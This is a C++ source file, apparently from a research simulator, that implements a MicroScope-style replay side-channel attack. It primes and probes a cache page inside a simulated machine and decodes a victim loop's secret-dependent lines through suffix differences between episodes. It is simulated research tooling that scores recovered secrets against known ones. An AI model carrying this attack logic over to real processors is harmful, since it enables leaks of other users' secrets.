#include "attack/loop_secret.hh"

#include "attack/victims.hh"
#include "core/microscope.hh"

namespace uscope::attack
{

namespace
{

/** Replays per loop iteration (the recipe's confidence). */
constexpr std::uint64_t kReplaysPerIteration = 2;

} // anonymous namespace

LoopSecretResult
runLoopSecretAttack(const LoopSecretConfig &config)
{
    os::Machine machine(config.machine);
    auto &kernel = machine.kernel();

    const auto iterations =
        static_cast<unsigned>(config.secretLines.size());
    const VictimImage victim = buildLoopSecretVictim(
        kernel, iterations, config.secretLines.data());

    const PAddr transmit_pa =
        *kernel.translate(victim.pid, victim.transmitA);

    LoopSecretResult result;
    result.episodeLines.resize(iterations);
    std::vector<bool> started(iterations, false);

    ms::Microscope scope(machine);
    ms::AttackRecipe recipe;
    recipe.victim = victim.pid;
    recipe.replayHandle = victim.handle;
    recipe.pivot = victim.pivot;
    recipe.confidence = kReplaysPerIteration;
    recipe.maxEpisodes = iterations;
    // §4.4-style tuning: a consistently SHORT walk keeps every window
    // the same size across episodes (the handle's and pivot's leaf
    // PTEs share a cache line here, so a long plan could not survive
    // the pivot swaps anyway), which makes the suffix differences
    // between consecutive episodes align exactly.
    recipe.walkPlan = ms::PageWalkPlan::shortest();
    recipe.onReplay = [&](const ms::ReplayEvent &ev) {
        // Record the episode's LAST window: the first window after a
        // cold start can miss dependent accesses whose own page walks
        // outlast the (deliberately short) replay window.
        if (ev.episode >= iterations || started[ev.episode] ||
            ev.replayIndex < kReplaysPerIteration) {
            return true;
        }
        started[ev.episode] = true;
        for (unsigned line = 0; line < pageSize / lineSize; ++line) {
            if (kernel.timedProbePhys(transmit_pa + line * lineSize).hit()) {
                result.episodeLines[ev.episode].insert(line);
            }
        }
        return true;
    };
    recipe.beforeResume = [&](const ms::ReplayEvent &) {
        kernel.primeRange(transmit_pa, pageSize);
    };
    recipe.onEpisodeEnd = [&](const ms::ReplayEvent &) {
        kernel.primeRange(transmit_pa, pageSize);
    };
    scope.setRecipe(std::move(recipe));

    kernel.primeRange(transmit_pa, pageSize);
    scope.arm();
    kernel.startOnContext(victim.pid, 0, victim.program);
    machine.runUntilHalted(0, 100'000'000);
    scope.disarm();
    machine.runUntilHalted(0, 1'000'000);

    result.victimCompleted = machine.core().halted(0);
    result.totalReplays = scope.stats().totalReplays;

    // Episode i's window covers iterations i.. (ROB-bounded), so the
    // per-iteration line is the suffix difference; the final episode
    // has nothing younger and is exact.
    result.recovered.resize(iterations);
    for (unsigned i = 0; i < iterations; ++i) {
        std::set<unsigned> diff = result.episodeLines[i];
        if (i + 1 < iterations) {
            for (unsigned line : result.episodeLines[i + 1])
                diff.erase(line);
        }
        if (diff.size() == 1)
            result.recovered[i] = *diff.begin();
        // An empty diff means iteration i's line collides with a
        // younger iteration's — ambiguous from suffix sets alone,
        // unless the set itself is a singleton.
        else if (result.episodeLines[i].size() == 1)
            result.recovered[i] = *result.episodeLines[i].begin();
    }

    for (unsigned i = 0; i < iterations; ++i) {
        if (!result.recovered[i])
            continue;
        if (*result.recovered[i] == config.secretLines[i])
            ++result.correct;
        else
            ++result.wrong;
    }
    result.coreDigest = machine.core().stateDigest();
    return result;
}

} // namespace uscope::attack
